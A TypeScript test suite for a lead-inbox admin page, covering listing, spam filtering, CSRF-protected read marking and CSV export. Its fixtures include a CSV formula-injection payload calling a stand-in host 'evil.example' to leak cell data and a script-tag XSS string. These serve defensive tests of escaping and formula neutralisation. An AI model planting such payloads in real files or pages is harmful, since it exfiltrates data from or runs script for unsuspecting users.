import { expect } from 'chai';
import { csvCell, LEAD_CSV_COLUMNS, leadsToCsvRows } from '../../src/services/messages-csv.js';
import type { LeadRow } from '../../src/db/leads.js';
import { insertContactMessage } from '../support/contact-messages.js';
import { signIn, STAFF_ENV, type Staff } from '../support/staff.js';
import { startTestServer, type TestServer } from '../support/test-server.js';

const STAFF = STAFF_ENV;

/** RFC 4180: quoted cells, doubled quotes, CRLF rows, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const text = (html: string) => html.replaceAll('<!-- -->', '');

const MESSAGES = [
  { key: 'oldest', created_at: '2026-01-01 09:00:00', subject: 'Oldest lead', firstname: 'Olive', is_spam: false },
  { key: 'newest', created_at: '2026-01-03 16:30:00', subject: 'Newest lead', firstname: 'Nina', is_spam: false },
  { key: 'middle', created_at: '2026-01-02 12:00:00', subject: 'Middle lead', firstname: 'Mia', is_spam: false },
  { key: 'spam', created_at: '2026-01-04 08:00:00', subject: 'Cheap pills', firstname: 'Bot', is_spam: true },
  {
    key: 'formula',
    created_at: '2025-12-31 23:59:59',
    subject: '-2',
    firstname: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    lastname: '+1',
    message: '@SUM(A1:A9)\nHe said "call me" <script>alert(1)</script>',
    is_spam: false,
  },
];

describe('Admin messages inbox', () => {
  let server: TestServer;
  let staff: Staff;
  const ids: Record<string, number> = {};

  before(async () => {
    server = await startTestServer(STAFF);
    staff = await signIn(server.url);
    for (const { key, ...message } of MESSAGES) {
      ids[key] = await insertContactMessage(server.db, {
        lastname: 'Buyer',
        email: `${key}@example.com`,
        message: `Message from ${key}`,
        ...message,
      });
    }
  });
  after(() => server.close());

  async function inbox(query = ''): Promise<string> {
    const response = await fetch(`${server.url}/admin/messages${query}`, { headers: { Cookie: staff.cookie } });
    expect(response.status).to.equal(200);
    return text(await response.text());
  }

  /** token: the session's by default; null sends none. */
  function markRead(
    id: number | string,
    read: 'true' | 'false',
    token: string | null = staff.token,
  ): Promise<Response> {
    return fetch(`${server.url}/admin/messages/${id}/read`, {
      method: 'POST',
      redirect: 'manual',
      headers: { Cookie: staff.cookie, 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ read, ...(token === null ? {} : { _csrf: token }) }),
    });
  }

  const readAt = async (key: string) =>
    ((await server.db('contact_messages').where({ id: ids[key] }).first()) as { read_at: string | Date | null })
      .read_at;

  it('lists the leads newest first, with the spam kept apart in a view of its own', async () => {
    const leads = await inbox();
    const positions = ['Newest lead', 'Middle lead', 'Oldest lead'].map((subject) => leads.indexOf(subject));
    for (const position of positions) expect(position).to.be.greaterThan(0);
    expect(positions).to.deep.equal([...positions].sort((a, b) => a - b));
    expect(leads).to.not.include('Cheap pills');
    expect(leads).to.include('Leads (4, 4 unread)');
    expect(leads).to.include('Flagged as spam (1)</a>');
    const spam = await inbox('?spam=1');
    expect(spam).to.include('Cheap pills');
    expect(spam).to.not.include('Newest lead');
    expect(spam).to.include('Flagged as spam (1)</h2>');
  });

  it('shows a message as text: markup in it is escaped, never run', async () => {
    const html = await inbox();
    expect(html).to.not.include('<script>alert(1)</script>');
    expect(html).to.include('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('marks a message read and unread with the token, and the inbox and dashboard follow', async () => {
    const read = await markRead(ids.middle as number, 'true');
    expect(read.status).to.equal(303);
    expect(read.headers.get('location')).to.equal('/admin/messages');
    expect(await readAt('middle')).to.not.equal(null);
    expect(await readAt('newest')).to.equal(null);
    const html = await inbox();
    expect(html).to.include('Leads (4, 3 unread)');
    const middle = html.slice(html.indexOf('Middle lead'), html.indexOf('Oldest lead'));
    expect(middle).to.include('Mark as unread');
    const dashboard = text(await (await fetch(`${server.url}/admin`, { headers: { Cookie: staff.cookie } })).text());
    expect(dashboard).to.include('3 unread leads, 1 flagged as spam');

    const unread = await markRead(ids.middle as number, 'false');
    expect(unread.status).to.equal(303);
    expect(await readAt('middle')).to.equal(null);
    expect(await inbox()).to.include('Leads (4, 4 unread)');
  });

  it('refuses to mark a message without the token (403) and leaves it unread', async () => {
    expect((await markRead(ids.newest as number, 'true', null)).status).to.equal(403);
    expect((await markRead(ids.newest as number, 'true', 'wrong-token')).status).to.equal(403);
    expect(await readAt('newest')).to.equal(null);
  });

  it('answers an unknown message id with 404 and a malformed one with 400', async () => {
    expect((await markRead(999_999, 'true')).status).to.equal(404);
    for (const id of ['abc', '0', '-1', '1.5', '1e3']) expect((await markRead(id, 'true')).status, id).to.equal(400);
  });

  it('exports every message, spam included, newest first, as a CSV attachment', async () => {
    const response = await fetch(`${server.url}/admin/messages.csv`, { headers: { Cookie: staff.cookie } });
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.equal('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).to.match(
      /^attachment; filename="?messages-\d{4}-\d{2}-\d{2}\.csv"?$/,
    );
    expect(response.headers.get('cache-control')).to.include('no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)], 'UTF-8 BOM for spreadsheets').to.deep.equal([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(bytes.subarray(3).toString('utf8'));
    // Every lead with its kind and context (contract, "Leads with context").
    expect(header).to.deep.equal([...LEAD_CSV_COLUMNS]);
    expect(rows.map((row) => row[1])).to.deep.equal(Array<string>(MESSAGES.length).fill('message'));
    expect(rows).to.have.length(MESSAGES.length);
    const column = (name: string) => rows.map((row) => row[LEAD_CSV_COLUMNS.indexOf(name as 'id')]);
    expect(column('subject')).to.deep.equal(['Cheap pills', 'Newest lead', 'Middle lead', 'Oldest lead', "'-2"]);
    expect(column('is_spam')).to.deep.equal(['yes', 'no', 'no', 'no', 'no']);
    // ISO 8601 at the community's clock with its offset (America/Denver), the same on SQLite and PostgreSQL.
    expect(column('created_at')).to.deep.equal([
      '2026-01-04T01:00:00-07:00',
      '2026-01-03T09:30:00-07:00',
      '2026-01-02T05:00:00-07:00',
      '2026-01-01T02:00:00-07:00',
      '2025-12-31T16:59:59-07:00',
    ]);
  });

  it('neutralises formulas in the CSV (= + - @ get a leading apostrophe) and doubles quotes', async () => {
    // text() drops the BOM, as a spreadsheet does.
    const body = await (await fetch(`${server.url}/admin/messages.csv`, { headers: { Cookie: staff.cookie } })).text();
    expect(body.startsWith('id,kind,created_at,')).to.equal(true);
    const rows = parseCsv(body);
    const formula = rows.find((row) => row[0] === String(ids.formula)) as string[];
    const cell = (name: string) => formula[LEAD_CSV_COLUMNS.indexOf(name as 'id')];
    expect(cell('firstname')).to.equal(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
    expect(cell('lastname')).to.equal("'+1");
    expect(cell('subject')).to.equal("'-2");
    expect(cell('message')).to.equal(`'@SUM(A1:A9)\nHe said "call me" <script>alert(1)</script>`);
    // On the wire every cell is quoted and inner quotes are doubled.
    expect(body).to.include(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(body).to.include(`He said ""call me""`);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell, cell).to.not.match(/^[=+\-@\t\r]/);
  });

  it('shows a message sent through the contact form in the inbox', async () => {
    const response = await fetch(`${server.url}/contact/submit`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({
        firstname: 'Real',
        lastname: 'Person',
        email: 'real.person@example.com',
        phone: '(970) 555-0199',
        subject: 'Visiting on Saturday',
        message: 'Can we tour the Canyon model?',
      }),
    });
    expect(response.status).to.equal(200);
    expect(await response.text()).to.equal('success');
    const html = await inbox();
    expect(html).to.include('Visiting on Saturday');
    expect(html).to.include('Leads (5, 5 unread)');
  });

  describe('without a session', () => {
    it('redirects the inbox and the CSV export to /login, answers JSON 401, and changes nothing', async () => {
      const before = await server.db('contact_messages').select('id', 'read_at').orderBy('id');
      for (const path of ['/admin/messages', '/admin/messages.csv']) {
        const page = await fetch(`${server.url}${path}`, { redirect: 'manual' });
        expect(page.status, path).to.equal(303);
        expect(page.headers.get('location'), path).to.equal(`/login?next=${encodeURIComponent(path)}`);
        expect(await page.text(), path).to.not.include('Oldest lead');
        const call = await fetch(`${server.url}${path}`, {
          redirect: 'manual',
          headers: { Accept: 'application/json' },
        });
        expect(call.status, path).to.equal(401);
      }
      const mark = await fetch(`${server.url}/admin/messages/${ids.oldest}/read`, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ read: 'true', _csrf: staff.token }),
      });
      expect(mark.status).to.equal(401);
      expect(await server.db('contact_messages').select('id', 'read_at').orderBy('id')).to.deep.equal(before);
    });
  });
});

describe('leadsToCsvRows', () => {
  const row = (fields: Partial<LeadRow>): LeadRow => ({
    kind: 'message',
    id: 1,
    created_at: '2026-01-01T00:00:00.000Z',
    firstname: 'A',
    lastname: 'B',
    email: 'a@example.com',
    phone: '(303) 555-0100',
    subject: 'S',
    message: 'M',
    source_page: null,
    is_spam: false,
    read_at: null,
    tour_start: null,
    tour_status: null,
    lead_status: 'new',
    notes: '',
    utm_source: null,
    utm_medium: null,
    utm_campaign: null,
    utm_term: null,
    utm_content: null,
    referrer: null,
    landing_page: null,
    homesite: null,
    plan: null,
    community: 'the-community',
    ...fields,
  });

  it('prefixes every dangerous first character, including tab and carriage return', () => {
    for (const value of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1'])
      expect(csvCell(value), JSON.stringify(value)).to.equal(`"'${value}"`);
    for (const value of ['1-2', 'a=b', 'x@y.z', '(303) 555-0100']) expect(csvCell(value)).to.equal(`"${value}"`);
  });

  it('writes empty cells for null and undefined, and doubles quotes', () => {
    expect(csvCell(null)).to.equal('""');
    expect(csvCell(undefined)).to.equal('""');
    expect(csvCell('say "hi"')).to.equal('"say ""hi"""');
  });

  it('ends every row with CRLF, one cell per column', () => {
    const csv = leadsToCsvRows([row({}), row({ id: 2, kind: 'tour', tour_start: '2026-12-01T17:00:00.000Z' })]);
    expect(csv.split('\r\n')).to.have.length(3);
    expect(csv.endsWith('\r\n')).to.equal(true);
    expect(csv.split('\r\n')[1]!.split('","')).to.have.length(LEAD_CSV_COLUMNS.length);
  });
});
